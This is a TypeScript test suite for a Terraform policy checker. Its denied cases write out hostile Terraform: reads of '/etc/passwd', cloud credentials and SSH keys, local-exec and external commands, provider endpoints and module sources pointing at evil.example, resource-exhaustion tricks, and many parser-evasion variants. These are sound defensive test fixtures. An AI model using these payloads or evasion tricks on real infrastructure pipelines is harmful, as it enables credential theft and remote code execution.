// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are Terraform code
import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  defaultPolicySettings,
  type ProjectPolicySettings,
  projectPolicySettingsSchema,
} from '../policy/contract.ts';
import { preflight } from './preflight.ts';
import { type PreflightRuleId, preflightRules } from './rules.ts';

type Files = Record<string, string | Uint8Array>;
const judge = (files: Files, settings: ProjectPolicySettings = defaultPolicySettings) =>
  preflight(new Map(Object.entries(files)), settings);
const tf = (code: string): Files => ({ 'main.tf': code });
const json = (value: unknown): Files => ({ 'main.tf.json': JSON.stringify(value) });
const local = (expression: string): Files => tf(`locals {\n  a = ${expression}\n}\n`);
const resource = (body: string, type = 'aws_s3_bucket') => tf(`resource "${type}" "b" {\n${body}\n}\n`);
const module = (source: string): Files => ({
  ...tf(`module "m" {\n  source = "${source}"\n}\n`),
  'm/a.tf': '',
});

/** Every rule with the plain spelling of what it denies, and with the ways around a careless reader. */
const denied: Record<PreflightRuleId, Record<string, Files>> = {
  'PRE-SYNTAX': {
    'an open brace': tf('resource "aws_s3_bucket" "b" {'),
    'bytes that are not UTF-8': { 'main.tf': Uint8Array.of(0x61, 0xff) },
    'a NUL character': tf('locals {}\n\0'),
    'a stray carriage return that hides a block in a comment': tf('# harmless\rterraform {}\n'),
    'text that shows in another order': tf('# \u202e\n'),
    'a hundred thousand parentheses': local('('.repeat(100_000)),
    'deep JSON': { 'main.tf.json': '['.repeat(100_000) },
    'a broken interpolation in JSON': json({ locals: { a: '${file(' } }),
    'a wrong escape': local('"\\x41"'),
    'a comment that never closes': tf('/* "'),
  },
  'PRE-PATH': {
    'the parent folder': { '../main.tf': '' },
    'a hidden folder': { '.terraform/providers/x': '' },
    'a plug-in folder': { 'terraform.d/plugins/x': '' },
    'a state file': { 'terraform.tfstate': '{}' },
  },
  'PRE-OVERRIDE': {
    override: { 'override.tf': '' },
    'a suffix': { 'zz_override.tf': '' },
    JSON: { 'main_override.tf.json': '{}' },
    'a folder': { 'm/x_override.tf': '' },
  },
  'PRE-DUPLICATE-KEY': {
    'two resources': { 'main.tf.json': '{"resource":{},"resource":{}}' },
    'escaped names': { 'main.tf.json': '{"locals":{"a":{"b":1,"\\u0062":2}}}' },
  },
  'PRE-BLOCK': {
    'an unknown block': tf('action "x" "y" {\n}\n'),
    experiments: tf('terraform {\n  experiments = [x]\n}\n'),
    'state encryption of OpenTofu': tf('terraform {\n  encryption {\n  }\n}\n'),
    'a missing label': tf('resource "aws_s3_bucket" {\n}\n'),
    JSON: json({ action: { x: {} } }),
    'a block in variable values': { 'a.auto.tfvars': 'provider "aws" {\n}\n' },
    'an argument at the top': tf('a = 1\n'),
  },
  'PRE-BACKEND': {
    s3: tf('terraform {\n  backend "s3" {\n  }\n}\n'),
    cloud: tf('terraform {\n  cloud {\n  }\n}\n'),
    JSON: json({ terraform: { backend: { http: { address: 'x' } } } }),
    'JSON arrays': json({ terraform: [{}, { backend: [{ kubernetes: {} }] }] }),
    'a label without quotes': tf('terraform {\n  backend local {}\n}\n'),
    'comments inside': tf('terraform/**/{\n  backend /*\n*/ "local" {}\n}\n'),
    'a module': { 'm/a.tf': 'terraform {\n  backend "local" {}\n}\n' },
  },
  'PRE-PROVIDER': {
    'its own namespace': tf(
      'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}\n',
    ),
    'another registry': tf(
      'terraform {\n  required_providers {\n    aws = { source = "evil.example/hashicorp/aws" }\n  }\n}\n',
    ),
    'an implied provider': resource('', 'evil_thing'),
    'a chosen provider': resource('provider = evil.x'),
    'a source that is computed': tf(
      'terraform {\n  required_providers {\n    aws = { "${"so"}urce" = "evil/aws" }\n  }\n}\n',
    ),
    JSON: json({ terraform: { required_providers: { aws: { source: 'evil/aws' } } } }),
    'a data source in a check': tf('check "c" {\n  data "evil_x" "y" {\n  }\n}\n'),
    'a provider block': tf('provider "evil" {\n}\n'),
  },
  'PRE-PROVIDER-ARGUMENT': {
    'the polyglot file': tf('provider "aws" {\n  shared_config_files = ["./main.tf"]\n  profile = "x"\n}\n'),
    endpoints: tf('provider "aws" {\n  endpoints {\n    sts = "http://evil.example"\n  }\n}\n'),
    assume_role: tf('provider "aws" {\n  assume_role {\n    role_arn = "x"\n  }\n}\n'),
    'a dynamic block': tf(
      'provider "aws" {\n  dynamic "endpoints" {\n    for_each = [1]\n    content {\n      s3 = "x"\n    }\n  }\n}\n',
    ),
    'JSON arrays': json({ provider: { aws: [{ region: 'x' }, { endpoints: [{ sts: 'x' }] }] } }),
    'a local name': tf(
      'terraform {\n  required_providers {\n    a = { source = "hashicorp/aws" }\n  }\n}\nprovider "a" {\n  token = "x"\n}\n',
    ),
    'another cloud': tf('provider "google" {\n  credentials = "/etc/passwd"\n}\n'),
    'a proxy of tls': tf('provider "tls" {\n  proxy {\n    url = "x"\n  }\n}\n'),
  },
  'PRE-PROVISIONER': {
    'local-exec': resource('provisioner "local-exec" {\n  command = "id"\n}'),
    'a label without quotes': resource('provisioner local-exec {\n  command = "id"\n}'),
    connection: resource('connection {\n  host = "x"\n}'),
    removed: tf(
      'removed {\n  from = aws_s3_bucket.b\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
    ),
    JSON: json({
      resource: { null_resource: { x: { provisioner: [{ 'local-exec': { command: 'id' } }] } } },
    }),
    'JSON arrays at every level': json({
      resource: [{ null_resource: [{ x: [{ provisioner: { 'local-exec': [{ command: 'id' }] } }] }] }],
    }),
    'escaped JSON': {
      'a.tf.json': '{"resource":{"null_resource":{"x":{"provi\\u0073ioner":{"local-exec":{}}}}}}',
    },
    'a heredoc before it': resource(
      'bucket = <<-EOT\n  }\n  EOT\nprovisioner "local-exec" {\n  command = "id"\n}',
    ),
    'a string with braces before it': resource('bucket = "${"}"}{"\nprovisioner "local-exec" {\n}'),
    'a module': { 'm/a.tf': 'resource "null_resource" "x" {\n  provisioner "file" {\n  }\n}\n' },
  },
  'PRE-DATA-SOURCE': {
    external: tf('data "external" "x" {\n  program = ["id"]\n}\n'),
    'remote state': tf('data "terraform_remote_state" "x" {\n  backend = "local"\n}\n'),
    http: tf('data http x {\n}\n'),
    'an escaped label': tf('data "ex\\u0074ernal" "x" {\n}\n'),
    'a data source in a check': tf('check "c" {\n  data "http" "y" {\n  }\n}\n'),
    secrets: tf('data "aws_secretsmanager_secret_version" "x" {\n}\n'),
    parameters: tf('data "aws_ssm_parameter" "x" {\n}\n'),
    'a function run while planning': tf('data "aws_lambda_invocation" "x" {\n}\n'),
    'keys of Azure': tf('data "azurerm_key_vault_secret" "x" {\n}\n'),
    JSON: json({ data: [{ external: { x: { program: ['id'] } } }] }),
  },
  'PRE-RESOURCE-TYPE': {
    local_file: resource('', 'local_file'),
    'sensitive file': resource('', 'local_sensitive_file'),
    manifest: resource('', 'kubernetes_manifest'),
    JSON: json({ resource: { docker_container: { x: {} } } }),
  },
  'PRE-FILE-FUNCTION': {
    'an absolute path': local('file("/proc/self/environ")'),
    'the parent folder': local('file("${path.module}/../x")'),
    'a comment before the parenthesis': local('file /*c*/ ("/etc/passwd")'),
    'the core namespace': local('core::file("/etc/passwd")'),
    'spaces in the namespace': local('core :: filebase64 ("/etc/passwd")'),
    'the home folder': local('file("~/.aws/credentials")'),
    'an escape': local('file("\\u002fetc/passwd")'),
    'an interpolated slash': local('file("${"/"}etc/passwd")'),
    'a missing slash after the folder': local('file("${path.module}./x")'),
    'a dot split over interpolations': local('file("${path.module}/.${"."}/x")'),
    'a local': tf('locals {\n  p = "/etc"\n  a = file("${local.p}/passwd")\n}\n'),
    'a variable': local('file(var.p)'),
    'a heredoc': local('file(<<EOT\n/etc/passwd\nEOT\n)'),
    'inside a string of a heredoc': tf('locals {\n  a = <<EOT\n  "${file("/etc/passwd")}"\nEOT\n}\n'),
    'inside a for expression': local('[for f in fileset("/proc", "*/environ") : f]'),
    'a pattern that goes up': local('fileset("${path.module}", "../*")'),
    'a pattern whose braces hide dots': local('fileset("${path.module}", "{.,x}./**")'),
    'a hidden file': local('file(".terraform/terraform.tfstate")'),
    JSON: json({ locals: { a: '${file("/etc/passwd")}' } }),
    'a key in JSON': json({ locals: { a: { '${file("/etc/passwd")}': 1 } } }),
    'escapes in JSON': { 'a.tf.json': '{"locals":{"a":"\\u0024{file(\\"/etc/x\\")}"}}' },
    'an attribute in a nested block': resource('x {\n  y {\n    z = filemd5("/etc/passwd")\n  }\n}'),
    'a variable check': tf(
      'variable "x" {\n  validation {\n    condition = fileexists("/etc/passwd")\n  }\n}\n',
    ),
    'a template file': {
      ...local('templatefile("${path.module}/t.tpl", {})'),
      't.tpl': 'a\n$${file("/no")} ${ file("/etc/passwd") }\n',
    },
    'a directive in a template file': {
      ...local('templatefile("t.txt", {})'),
      't.txt': '%{ for x in fileset("/", "*") }${x}%{ endfor }',
    },
    'path.module in the middle': local('file("a${path.module}/b")'),
    'stripped whitespace': local('file("./. ${~ "./x" }")'),
    'an expanded list': local('file(["/etc/passwd"]...)'),
  },
  'PRE-TEMPLATE': {
    'a file that is not there': local('templatefile("t.tpl", {})'),
    'a file that does not parse': { ...local('templatefile("t.tpl", {})'), 't.tpl': '${' },
    'a file chosen at run time': resource(
      'for_each = fileset("t", "*")\nbucket = templatefile("t/${each.value}", {})',
    ),
  },
  'PRE-FUNCTION': {
    'a provider function': local('provider::local::direxists("/")'),
    'a template from a value': local('templatestring(local.b, {})'),
    'an unknown function': local('exec("id")'),
    'the core namespace': local('core::templatestring(local.b, {})'),
  },
  'PRE-PATH-ARGUMENT': {
    'an absolute path': resource('source = "/etc/shadow"', 'aws_s3_object'),
    'the parent folder': resource('filename = "../x.zip"', 'aws_lambda_function'),
    'the home folder': resource('source = "~/.ssh/id_rsa"', 'aws_s3_object'),
    'a variable': resource('source = var.path', 'aws_s3_object'),
    'a set of paths that goes up': resource(
      'for_each = fileset("/etc", "*")\nsource = "${each.value}"',
      'aws_s3_object',
    ),
    'glued to a found file': resource(
      'for_each = fileset("a", "*")\nsource = "x${each.value}"',
      'aws_s3_object',
    ),
    JSON: json({ resource: { aws_s3_object: { x: { source: '${"/etc"}/shadow' } } } }),
    'a nested block': resource('x {\n  cert_file = "/etc/ssl/key.pem"\n}'),
  },
  'PRE-MODULE-SOURCE': {
    'a registry': module('terraform-aws-modules/vpc/aws'),
    git: module('git::https://evil.example/x.git'),
    'the parent folder': module('../victim'),
    'up and down': module('./../../victim'),
    'an absolute path': module('/etc'),
    'a subfolder of a package': module('./m//../../x'),
    'a folder that is not there': module('./n'),
    'no source': tf('module "m" {\n}\n'),
    'a computed source': module('${"./m"}x${1}'),
    JSON: json({ module: { m: { source: 'https://evil.example/x.zip' } } }),
    'a module in a module': {
      ...module('./m'),
      'm/a.tf': 'module "x" {\n  source = "../../x"\n}\n',
    },
  },
  'PRE-EPHEMERAL': {
    HCL: tf('ephemeral "aws_secretsmanager_secret_version" "x" {\n}\n'),
    JSON: json({ ephemeral: { aws_ssm_parameter: { x: {} } } }),
  },
  'PRE-COST': {
    bcrypt: local('bcrypt("x", 31)'),
    'a computed cost': local('bcrypt("x", 30 + 1)'),
    'a cost that is a variable': local('bcrypt("x", var.cost)'),
    'a wide format': local('format("%2000000000s", "x")'),
    'a width from a local': tf('locals {\n  w = 2000000000\n  a = format("%${local.w}s", "x")\n}\n'),
    'doubled strings': tf(
      `locals {\n  a0 = "xxxxxxxxxx"\n${Array.from({ length: 30 }, (_, i) => `  a${i + 1} = "\${local.a${i}}\${local.a${i}}"`).join('\n')}\n}\n`,
    ),
    'nested ranges': tf(
      'locals {\n  a = [for i in range(1000) : "xxxx"]\n  b = [for i in local.a : local.a]\n  c = [for i in local.a : local.b]\n}\n',
    ),
    'a million objects': resource('count = 1000 * 1000'),
    'a million objects by text': resource('count = "1000000"'),
    'a million objects by a power': tf(
      'locals {\n  n = 6\n}\nresource "aws_s3_bucket" "b" {\n  count = pow(10, local.n)\n}\n',
    ),
  },
  'PRE-FILE-TYPE': {
    'a program': { 'run.exe': '' },
    'OpenTofu, which wins over .tf': { 'main.tofu': '' },
    'tests, whose modules init fetches': { 'x.tftest.hcl': '' },
    'a plug-in': { 'm/terraform-provider-aws_v5': '' },
    Terragrunt: { 'terragrunt.hcl': '' },
    'capital letters': { 'main.TF': '' },
  },
  'PRE-NETWORK-READ': { tls: tf('data "tls_certificate" "x" {\n  url = "https://10.0.0.1"\n}\n') },
  'PRE-IMPORT': {
    HCL: tf('import {\n  to = aws_s3_bucket.b\n  id = "victim"\n}\n'),
    JSON: json({ import: [{ to: 'aws_s3_bucket.b', id: 'victim' }] }),
  },
  'PRE-REMOVED': { HCL: tf('removed {\n  from = aws_s3_bucket.b\n}\n') },
  'PRE-MOVED': { HCL: tf('moved {\n  from = aws_s3_bucket.a\n  to = aws_s3_bucket.b\n}\n') },
};

for (const [id, cases] of Object.entries(denied))
  for (const [name, files] of Object.entries(cases))
    test(`${id} finds ${name}`, () => {
      const report = judge(files);
      const finding = report.findings.find((candidate) => candidate.id === id);
      assert.ok(
        finding,
        `found ${JSON.stringify(report.findings.map((other) => [other.id, other.message]))}`,
      );
      assert.ok(finding.file && (finding.line ?? 0) >= 1 && finding.message && finding.howToAllow);
      assert.equal(finding.mode, preflightRules[id as PreflightRuleId].mode);
      assert.ok(report.verdict === finding.mode || report.verdict === 'block');
    });

const accepted: Record<string, Files> = {
  'a comment that looks like code': tf(
    '# provisioner "local-exec" {}\n// backend "s3" {}\n/* data "http" "x" {} */\n',
  ),
  'a string that looks like code': local('"$${file(\\"/etc/passwd\\")} provisioner { file(\'/x\') }"'),
  'a heredoc that looks like code': local('<<-EOT\n    provisioner "local-exec" {\n    data "http"\n  EOT'),
  'files of the project': {
    ...local('[file("${path.module}/a.txt"), filemd5("a.zip"), templatefile("t.tpl", { x = 1 })]'),
    't.tpl': '%{ if x == 1 ~}\n${upper("x")}\n%{ endif ~}\n',
  },
  'a set of files': tf(
    'locals {\n  files = fileset("${path.module}/site", "**/*.{html,css}")\n}\nresource "aws_s3_object" "x" {\n  for_each = local.files\n  source   = "${path.module}/site/${each.value}"\n  etag     = filemd5("${path.module}/site/${each.value}")\n}\n',
  ),
  'a path in a local': tf(
    'locals {\n  dir = "${path.module}/dist"\n}\nresource "aws_lambda_function" "f" {\n  filename = "${local.dir}/f.zip"\n}\n',
  ),
  'modules in the tree': {
    'main.tf': 'module "a" {\n  source = "./modules/a"\n}\n',
    'modules/a/main.tf': 'module "b" {\n  source = "../b"\n}\n',
    'modules/b/main.tf.json': '{"locals":{"a":"${upper(\\"x\\")}"},"//":"a comment with ${"}',
  },
  'windows line ends and a byte order mark': tf('\ufefflocals {\r\n  a = <<EOT\r\nx\r\nEOT\r\n}\r\n'),
  'providers of the list': tf(
    'terraform {\n  required_version = ">= 1.5"\n  required_providers {\n    aws    = { source = "hashicorp/aws", version = "~> 5.0" }\n    random = "~> 3.0"\n  }\n}\nprovider "aws" {\n  region = "eu-west-1"\n  alias  = "west"\n  default_tags {\n    tags = {}\n  }\n}\n',
  ),
  'data files': { 'main.tf': '', 'lambda.zip': Uint8Array.of(0xff), Dockerfile: '', 'src/a.py': 'import os' },
  'a health check path': resource('health_check {\n  path = "/health"\n}', 'aws_lb_target_group'),
};
for (const [name, files] of Object.entries(accepted))
  test(`accepts ${name}`, () => assert.deepEqual(judge(files).findings, []));

test('a finding names the file, the line, the address and the way to allow it', () => {
  const { findings } = judge({ 'net/a.tf': '\n\ndata "external" "x" {\n}\n' });
  const finding = findings.find(({ id }) => id === 'PRE-DATA-SOURCE');
  assert.deepEqual(
    [finding?.file, finding?.line, finding?.address, finding?.subject],
    ['net/a.tf', 3, 'data.external.x', 'external'],
  );
  assert.match(finding?.howToAllow ?? '', /id: "PRE-DATA-SOURCE", subject: "external"/);
});

test('an allowance lets exactly what it names pass', () => {
  const files = tf(
    'provider "aws" {\n  endpoints {\n    s3  = "http://localhost:4566"\n    sts = "http://evil"\n  }\n}\n',
  );
  const who = { who: 'ops', why: 'local cloud' };
  const subject = 'aws.endpoints.*=http://localhost:4566';
  const settings = projectPolicySettingsSchema.parse({
    allowances: [{ id: 'PRE-PROVIDER-ARGUMENT', subject, ...who }],
  });
  const report = judge(files, settings);
  assert.deepEqual(
    report.findings.map(({ subject }) => subject),
    ['aws.endpoints.sts=http://evil'],
  );
  assert.deepEqual(
    report.allowed.map(({ allowedBy }) => allowedBy),
    [who],
  );
  assert.equal(report.verdict, 'block');
});

test('an expired allowance has no effect', () => {
  const allowance = { id: 'PRE-IMPORT', who: 'a', why: 'b', expiresAt: '2020-01-01T00:00:00Z' };
  const settings = projectPolicySettingsSchema.parse({ allowances: [allowance] });
  assert.equal(judge(tf('import {\n}\n'), settings).verdict, 'approve');
});

test('nobody can allow a backend', () => {
  const settings = projectPolicySettingsSchema.parse({
    modes: { 'PRE-BACKEND': 'off' },
    allowances: [{ id: 'PRE-BACKEND', who: 'a', why: 'b' }],
  });
  assert.equal(judge(tf('terraform {\n  backend "s3" {\n  }\n}\n'), settings).verdict, 'block');
});

test('more findings than a report holds still decide the verdict', () => {
  const many = 'import {\n}\n'.repeat(600);
  const report = judge(tf(`${many}data "http" "x" {\n}\n`));
  assert.equal(report.verdict, 'block');
  assert.ok(report.truncated && report.findings.length <= 500);
});
